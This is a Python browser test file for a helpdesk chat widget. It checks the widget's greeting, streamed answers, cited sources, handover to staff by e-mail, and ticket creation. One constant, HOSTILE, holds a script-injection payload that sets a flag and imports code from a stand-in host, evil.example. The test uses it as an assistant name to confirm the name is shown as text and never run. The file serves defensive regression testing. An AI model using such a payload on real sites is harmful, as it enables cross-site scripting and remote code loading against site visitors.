"""The website widget on a customer's page in a real browser: greets, streams, names its sources once,
hands over to a person by e-mail (the ticket carries the escalated question), and closes."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django_tenants.utils import schema_context

# The widget in a real browser with a hostile assistant name: the name is shown, never run.
HOSTILE = "*/ window.__pwned=1; import(`//evil.example/x.js`) /* </script><img src=x onerror=__pwned=2>\u2028"


@pytest.fixture
def db(committed):
    """Committed rows (the live server's thread must see them); see tests/test_tickets_browser.py."""
    return


@pytest.fixture
def customer_site(tmp_path: Path) -> Iterator[tuple[Path, int]]:
    """Another origin (a plain web server on localhost) where the customer pastes the widget's tag."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(tmp_path)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield tmp_path, server.server_address[1]
    server.shutdown()


@pytest.fixture
def widget_page(db, live_app, customer_site) -> str:
    from assistants.services import assistant_create, widget_key_create
    from knowledge import services as kb

    folder, port = customer_site
    with schema_context("acme"):
        for title, text in {
            "Shipping times": "Orders ship within 2 business days. Standard delivery takes 3 to 5 days.",
            "Delivery options": "Express delivery takes 1 day and costs 9 euros. Standard delivery is free.",
        }.items():
            document = kb.document_create_from_text(
                title=title, text=text, language="en", visibility="public", enqueue=False
            )
            kb.document_index(document_id=document.pk)
        bot = assistant_create(name="Acme helper", company="Acme", provider="extractive")
        key = widget_key_create(assistant=bot, allowed_origins=[f"http://localhost:{port}"])
    script = live_app.url("acme", f"/assistants/widget.js?key={key.key}")
    (folder / "index.html").write_text(
        f'<!doctype html><html><head><meta name="viewport" content="width=device-width">'
        f'<title>Acme shop</title></head><body><h1>Acme shop</h1><script src="{script}" async></script></body></html>'
    )
    return f"http://localhost:{port}/index.html"


def test_widget_greets_streams_cites_once_and_hands_over(widget_page, page):
    from tickets.models import Ticket

    streamed: list[str] = []
    page.on("response", lambda r: streamed.append(r.headers.get("content-type", "")) if "/stream" in r.url else None)
    page.goto(widget_page)
    page.get_by_role("button", name="Chat with us").click()
    dialog = page.get_by_role("dialog", name="Acme helper")
    assert dialog.get_by_text("Hi! I'm Acme helper.").is_visible()  # it greets

    dialog.get_by_label("Message").fill("How long does delivery take?")
    dialog.get_by_role("button", name="Send", exact=True).click()
    answer = dialog.locator(".hdw-bot").nth(1)
    answer.locator(".hdw-src").wait_for(timeout=30_000)
    assert "text/event-stream" in streamed[0]  # the answer was streamed
    sources = answer.locator(".hdw-src").inner_text()
    for title in ("Shipping times", "Delivery options"):
        assert sources.count(title) <= 1  # each document named once
    assert "days" in answer.inner_text()

    dialog.get_by_label("Message").fill("I am furious, my parcel arrived broken and nobody answers!")
    dialog.get_by_role("button", name="Send", exact=True).click()
    handover = dialog.locator(".hdw-handover")
    handover.wait_for(timeout=30_000)
    assert "we send them this conversation and they answer you by e-mail" in handover.inner_text()
    assert handover.is_visible() and handover.evaluate(
        "el => { const r = el.getBoundingClientRect(), p = el.parentElement.getBoundingClientRect();"
        " return r.top >= p.top - 1 && r.top < p.bottom; }"
    )  # scrolled into view
    handover.get_by_label("Your e-mail address").fill("kim@customer.example")
    handover.get_by_label("Your name (optional)").fill("Kim")
    handover.get_by_role("button", name="Send to our team").click()
    thanks = dialog.get_by_text("is with our team; they will answer you at kim@customer.example")
    thanks.wait_for()
    number = int(thanks.inner_text().split("#")[1].split(" ")[0])
    with schema_context("acme"):
        ticket = Ticket.objects.select_related("requester").get(number=number)
        assert ticket.subject == "I am furious, my parcel arrived broken and nobody answers!"
        assert (ticket.requester.email, ticket.requester.name, ticket.channel) == (
            "kim@customer.example",
            "Kim",
            "chat",
        )
        assert ticket.priority == "high"

    dialog.get_by_role("button", name="Close the chat").click()
    assert not dialog.is_visible()
    page.get_by_role("button", name="Chat with us").click()
    assert dialog.is_visible() and dialog.get_by_text("Hi! I'm Acme helper.").count() == 1  # greets once
    page.keyboard.press("Escape")
    assert not dialog.is_visible()


def test_a_hostile_assistant_name_is_text_on_the_embedding_site(committed, live_app, page):
    from assistants.services import assistant_create, widget_key_create

    with schema_context("acme"):
        bot = assistant_create(name=HOSTILE, company="Acme", provider="extractive")
        key = widget_key_create(assistant=bot, allowed_origins=["https://www.acme.example"])
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.set_content("<!doctype html><html><head></head><body><p>Shop</p></body></html>")
    page.add_script_tag(url=live_app.url("acme", f"/assistants/widget.js?key={key.key}"))
    page.wait_for_function("window.__helpdeskWidget === true || window.__pwned !== undefined")
    assert page.evaluate("typeof window.__pwned") == "undefined"  # before the fix: 1 (the name ran as code)
    assert page.locator("[role=dialog]").get_attribute("aria-label") == HOSTILE
    assert errors == [] and not any("evil.example" in url for url in requested)
